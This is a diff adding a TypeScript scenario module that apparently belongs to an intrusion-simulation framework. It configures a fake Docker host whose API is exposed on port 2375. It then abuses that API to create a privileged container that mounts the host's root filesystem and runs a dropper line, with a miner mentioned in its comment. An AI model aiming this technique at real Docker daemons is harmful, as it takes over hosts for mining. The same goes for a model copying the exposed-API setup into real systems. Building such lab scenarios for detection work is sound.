@@ -1,0 +1,31 @@
+// Played by a toy; the daemon notes each call, and the miner runs in the scope of a container.
+import type { Dress } from '../../dress.ts'
+import { dropper } from '../../dropper.ts'
+import type { Stage } from '../../stage.ts'
+
+export function dress(dress: Dress): void {
+  dress.toy({
+    unit: 'docker',
+    user: 'root',
+    exe: '/usr/bin/dockerd',
+    title: '/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375',
+    home: '/var/lib/docker',
+    play: 'docker',
+  })
+  dress.logins({
+    days: 12,
+    guesses: 40,
+    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
+  })
+}
+
+export async function plant(stage: Stage): Promise<void> {
+  const line = dropper(stage, { path: '/tmp/.docker/dockerd-x', cron: false })
+  stage.mark('occurrence')
+  const body = { Image: 'alpine', Cmd: ['/bin/sh', '-c', line], HostConfig: { Binds: ['/:/mnt'], Privileged: true } }
+  const made = await stage.http('203.0.113.31', ':2375/v1.24/containers/create', JSON.stringify(body), {
+    'Content-Type': 'application/json',
+  })
+  const { Id } = JSON.parse(made) as { Id: string }
+  await stage.http('203.0.113.31', `:2375/v1.24/containers/${Id}/start`, '')
+}
